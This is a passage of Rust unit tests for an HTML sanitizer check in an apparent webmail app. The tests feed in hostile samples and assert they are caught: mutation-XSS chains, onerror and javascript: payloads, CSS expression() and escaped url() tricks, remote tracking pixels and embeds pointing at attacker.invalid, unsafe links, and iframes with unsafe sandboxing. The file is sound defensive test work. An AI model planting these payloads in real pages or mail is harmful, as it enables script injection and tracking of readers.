            "<embed src=\"https://attacker.invalid/x.swf\">",
            "<applet code=\"X.class\"></applet>",
            "<portal src=\"https://attacker.invalid/\"></portal>",
        ] {
            caught(Class::Embedded, html);
        }
        let frameset =
            "<html><frameset><frame src=\"https://attacker.invalid/\"></frameset></html>";
        assert!(classes(&check(frameset, Context::frame(true))).contains(&Class::Embedded));
        // The message page's body frame is allowed, sandboxed without scripts or same origin.
        let good = "<iframe class=\"body-frame\" src=\"/mail/INBOX/3/body?remote=1\" \
                    sandbox=\"allow-popups allow-popups-to-escape-sandbox\"></iframe>";
        assert!(check(good, Context::app(true)).is_empty());
        for bad in [
            "<iframe src=\"/mail/INBOX/3/body\"></iframe>",
            "<iframe src=\"/mail/INBOX/3/body\" sandbox=\"allow-scripts\"></iframe>",
            "<iframe src=\"/mail/INBOX/3/body\" sandbox=\"allow-popups ALLOW-SAME-ORIGIN\"></iframe>",
            "<iframe src=\"//attacker.invalid/mail/x/body\" sandbox></iframe>",
        ] {
            assert!(
                classes(&check(bad, Context::app(false))).contains(&Class::Embedded),
                "{bad}"
            );
        }
    }

    #[test]
    fn svg_and_math_are_caught() {
        caught(Class::ForeignContent, "<svg><circle r=\"4\"/></svg>");
        caught(Class::ForeignContent, "<math><mi>x</mi></math>");
        caught(
            Class::ForeignContent,
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        );
        // An app page may draw its own icons, but nothing active.
        let icon = "<svg class=\"clip\" viewBox=\"0 0 16 16\"><title>Attachment</title><path d=\"M1 1\"/></svg>";
        assert!(check(icon, Context::app(false)).is_empty());
        let active = "<svg><use href=\"#x\"/><foreignObject></foreignObject></svg>";
        assert!(classes(&check(active, Context::app(false))).contains(&Class::ForeignContent));
    }

    #[test]
    fn dangerous_css_is_caught_after_decoding() {
        for html in [
            "<div style=\"background:url(https://attacker.invalid/p.png)\">x</div>",
            "<div style=\"background:u\\72l(x.png)\">x</div>",
            "<div style=\"background-image:image-set('x.png' 1x)\">x</div>",
            "<style>@import 'https://attacker.invalid/x.css';</style>",
            "<style>@im/**/port 'x.css';</style>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<div style=\"width:exp/* */ression(alert(1))\">x</div>",
            "<div style=\"-moz-binding:url(x.xml#xss)\">x</div>",
            "<div style=\"behavior:url(x.htc)\">x</div>",
            "<div style=\"background:java\\73 cript:alert(1)\">x</div>",
            "<div style=\"position:fixed;top:0\">x</div>",
            "<div style=\"POSITION : Absolute\">x</div>",
            "<div style=\"position:\\73ticky\">x</div>",
            "<style>.x{position:/**/fixed}</style>",
        ] {
            caught(Class::Css, html);
        }
        // A string cannot hide what follows it from the decoder.
        caught(
            Class::Css,
            "<style>a{content:\"/*\"} b{background:url(x)} /* */</style>",
        );
        // Ordinary styles, and properties that only look alike, are fine.
        assert!(
            frame(
                "<p style=\"color:#333;font-family:'Segoe UI',Arial;background-position:top;\
                 scroll-behavior:smooth;text-align:center\">x</p>"
            )
            .is_empty()
        );
    }

    #[test]
    fn remote_resources_are_caught_unless_allowed() {
        for html in [
            "<img src=\"https://attacker.invalid/pixel.gif\">",
            "<img src=\"http://attacker.invalid/pixel.gif\">",
            "<img src=\"//attacker.invalid/pixel.gif\">",
            "<img src=\"\\\\attacker.invalid/pixel.gif\">",
            "<img srcset=\"x.png 1x, https://attacker.invalid/p.png 2x\">",
            "<table background=\"https://attacker.invalid/bg.png\"><tr><td>x</td></tr></table>",
            "<video poster=\"https://attacker.invalid/p.png\"></video>",
            "<audio src=\"https://attacker.invalid/a.mp3\"></audio>",
            "<video><source src=\"https://attacker.invalid/v.mp4\"></video>",
            "<input type=\"image\" src=\"https://attacker.invalid/i.png\">",
            "<div style=\"background:url('https://attacker.invalid/b.png')\">x</div>",
        ] {
            caught(Class::RemoteResource, html);
            assert!(
                !classes(&frame_remote(html)).contains(&Class::RemoteResource),
                "remote allowed: {html}"
            );
        }
        // With remote allowed, a plain remote image is no finding at all; a script still is.
        assert!(
            frame_remote("<img src=\"https://attacker.invalid/logo.png\" alt=\"logo\">").is_empty()
        );
        assert!(
            classes(&frame_remote(
                "<img src=\"https://attacker.invalid/l.png\" onload=\"alert(1)\">"
            ))
            .contains(&Class::EventHandler)
        );
    }

    #[test]
    fn relative_resources_in_the_frame_are_caught() {
        caught(Class::RelativeResource, "<img src=\"/mail/INBOX/1\">");
        caught(Class::RelativeResource, "<img src=\"logout\">");
        assert!(
            classes(&frame_remote("<img src=\"/mail/INBOX/1\">"))
                .contains(&Class::RelativeResource)
        );
    }

    #[test]
    fn links_must_open_apart() {
        caught(
            Class::UnsafeLink,
            "<a href=\"https://attacker.invalid/\">x</a>",
        );
        caught(
            Class::UnsafeLink,
            "<a href=\"https://attacker.invalid/\" target=\"_blank\">x</a>",
        );
        caught(
            Class::UnsafeLink,
            "<a href=\"//attacker.invalid/\" target=\"_blank\" rel=\"noopener\">x</a>",
        );
        caught(
            Class::UnsafeLink,
            "<a href=\"https://attacker.invalid/\" target=\"_top\" rel=\"noopener noreferrer\">x</a>",
        );
        assert!(
            frame(
                "<a href=\"https://example.org/\" target=\"_blank\" rel=\"noreferrer noopener\">x</a>\
                 <a href=\"mailto:a@example.org\">mail</a>"
            )
            .is_empty()
        );
    }

    #[test]
    fn the_marker_is_caught_outside_text() {
        caught(Class::Marker, "<script>alert('XSS-07')</script>");
        caught(
            Class::Marker,
            "<a href=\"https://x.example/\" target=\"_blank\" rel=\"noopener noreferrer\" data-x=\"alert('XSS-07')\">x</a>",
        );
        caught(Class::Marker, "<style>/* XSS-07 */</style>");
        caught(Class::Marker, "<p style=\"font-family:'XSS-07'\">x</p>");
        caught(
            Class::Marker,
            "<a href=\"javascript:alert('XSS-07')\">x</a>",
        );
        caught(
            Class::Marker,
            "<img src=\"data:image/svg+xml,alert('XSS-07')\">",
        );
        // Shown as text, or in a tooltip, it is harmless.
        assert!(
            frame(
                "<p>&lt;script&gt;alert('XSS-07')&lt;/script&gt;</p>\
                 <img src=\"data:image/gif;base64,R0lG\" alt=\"XSS-07\" title=\"alert('XSS-07')\">\
                 <font face=\"XSS-07\">f</font><a href=\"mailto:a@example.org?body=XSS-07\">m</a>\
                 <a href=\"https://x.example/?q=alert('XSS-07')\" target=\"_blank\" \
                 rel=\"noopener noreferrer\">l</a>"
            )
            .is_empty()
        );
    }

    #[test]
    fn a_realistic_newsletter_is_clean() {
        let html = r##"<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4f1ea">
<tr><td align="center">
<table width="600" cellpadding="12" style="border-collapse:collapse;background-color:#ffffff;font-family:Georgia,'Times New Roman',serif">
<tr><td style="padding:20px 24px;border-bottom:2px solid #6b8e23">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8DAwMDAAAAMBQEAnZqFHQAAAABJRU5ErkJggg==" alt="La Gazette" width="120" height="40">
<h1 style="color:#2f4f2f;font-size:28px;margin:8px 0">La Gazette du Jardin</h1>
<p style="color:#666;font-style:italic">Décembre — les bulbes d’hiver</p>
</td></tr>
<tr><td style="padding:16px 24px;line-height:1.5;color:#333">
<h2 style="font-size:20px;color:#6b8e23">Nos variétés</h2>
<ul style="list-style-type:square"><li><b>Tomate</b> Cœur de bœuf</li><li><i>Haricot</i> Coco de Paimpol</li></ul>
<p><font face="Arial" color="#990000" size="2">Offre limitée</font></p>
<p><a href="https://news.example.net/gazette/2024-12?utm_campaign=dec" target="_blank" rel="noopener noreferrer" style="color:#6b8e23;text-decoration:underline">Lire en ligne</a></p>
<blockquote style="border-left:3px solid #ccc;padding-left:10px">Un jardin, c’est la patience.</blockquote>
<table><thead><tr><th>Semaine</th><th>Tâche</th></tr></thead>
<tbody><tr><td nowrap>49</td><td style="text-align:right">Pailler</td></tr></tbody></table>
</td></tr>
<tr><td align="center" style="font-size:11px;color:#999;padding:12px">
<a href="https://news.example.net/unsubscribe?u=1" target="_blank" rel="noopener noreferrer">Se désabonner</a> ·
<a href="mailto:gazette@news.example.net">Nous écrire</a>
</td></tr>
</table>
</td></tr>
</table>"##;
        let f = frame(html);
        assert!(f.is_empty(), "{}", render(&f));
        let f = frame_remote(html);
        assert!(f.is_empty(), "{}", render(&f));
    }

    #[test]
    fn an_app_page_chrome_is_clean() {
        let page = r#"<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Hostile &lt;script&gt;alert('XSS-1')&lt;/script&gt; · Courrier</title>
<link rel="stylesheet" href="/static/css/app.css"><link rel="icon" href="/static/icons/favicon.svg" type="image/svg+xml">
</head><body data-live-folder="INBOX" data-title="&lt;script&gt;alert('XSS-1')&lt;/script&gt;">
<header class="top"><a class="brand" href="/mail/INBOX">Courrier</a>
<form method="post" action="/logout" class="inline"><input type="hidden" name="csrf" value="abc"><button type="submit" class="link">Log out</button></form></header>
<main class="message"><h1 class="subject">&lt;script&gt;alert('XSS-1')&lt;/script&gt;</h1>
<iframe class="body-frame" title="Message" src="/mail/INBOX/1/body" sandbox="allow-popups allow-popups-to-escape-sandbox" referrerpolicy="no-referrer"></iframe>
<ul><li><a href="/mail/INBOX/1/part/2" download>x.pdf</a></li></ul>
<svg class="clip" viewBox="0 0 16 16" role="img" aria-label="Attachment"><title>Attachment</title><path d="M11 4.5"/></svg>
<div class="body-text"><a href="https://example.org/" target="_blank" rel="noopener noreferrer">https://example.org/</a></div>
</main>
<script src="/static/js/app.js" defer></script>
</body></html>"#;
        let f = check(page, Context::app(false));
        assert!(f.is_empty(), "{}", render(&f));
        // The same chrome inside the body frame would be full of findings.
        let f = check(page, Context::frame(false));
        for class in [
            Class::Script,
            Class::Link,
            Class::FormControl,
            Class::Embedded,
            Class::ForeignContent,
            Class::RelativeResource,
        ] {
            assert!(classes(&f).contains(&class), "{class:?}");
        }
    }

    #[test]
    fn url_and_css_helpers() {
        assert_eq!(
            srcset_urls("a.png 1x, data:image/png;base64,AA,BB 2x,c.png"),
            ["a.png", "data:image/png;base64,AA,BB", "c.png"]
        );
        assert_eq!(srcset_urls("a.png,b.png"), ["a.png,b.png"]);
        assert_eq!(normalize_url("\u{1} java\tscript:x "), "javascript:x");
        assert_eq!(scheme("JavaScript:x").as_deref(), Some("javascript"));
        assert_eq!(scheme("a/b:c"), None);
        assert!(is_remote("/\\attacker.invalid/x"));
        assert!(!is_remote("/mail/INBOX"));
        let d = decode_css("a{b:'x\\'y'} /* url( */ c\\3A d");
        assert_eq!(d.text, "a{b:\"x'y\"}  c:d");
        assert_eq!(d.strings, ["x'y"]);
    }
}
